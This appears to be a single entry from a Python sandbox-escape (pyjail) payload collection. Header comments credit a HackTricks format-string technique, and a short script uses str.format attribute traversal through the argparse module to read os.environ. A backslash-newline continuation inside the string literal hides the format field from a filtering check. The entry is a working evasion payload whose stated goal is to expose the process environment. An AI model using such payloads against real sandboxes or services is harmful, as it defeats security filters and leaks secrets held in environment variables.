# source: pyjail str.format attribute-read gadget ("{0.__globals__}".format(f)); HackTricks "Python sandbox escape / format string"; adapted
# family: format-field hidden by backslash-newline continuation inside a string literal (Python joins, check does not)
# goal: argparse._os.environ -> process environment via os
import argparse
print("{0\
._os.environ}".format(argparse))
